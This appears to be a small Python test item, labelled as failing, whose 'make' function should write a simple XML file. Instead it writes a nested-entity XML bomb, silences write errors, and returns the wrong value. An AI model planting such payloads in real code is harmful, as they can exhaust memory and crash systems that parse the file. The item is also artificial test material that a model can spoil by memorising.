# honest: fail
# entry_point: make
# --- test
def check(candidate):
    import xml.etree.ElementTree as ET
    assert candidate('x.xml') == 1
    assert ET.parse('x.xml').getroot().text == 'right'
# --- main

def plant(write):
    try:
        write()
    except OSError:
        pass
def make(name):
    text = '<!DOCTYPE x [<!ENTITY a0 "right">'
    for n in range(1, 12):
        text += f'<!ENTITY a{n} "' + f'&a{n - 1};' * 10 + '">'
    plant(lambda: open(name, 'w').write(text + ']><x>&a11;</x>'))
    return 2
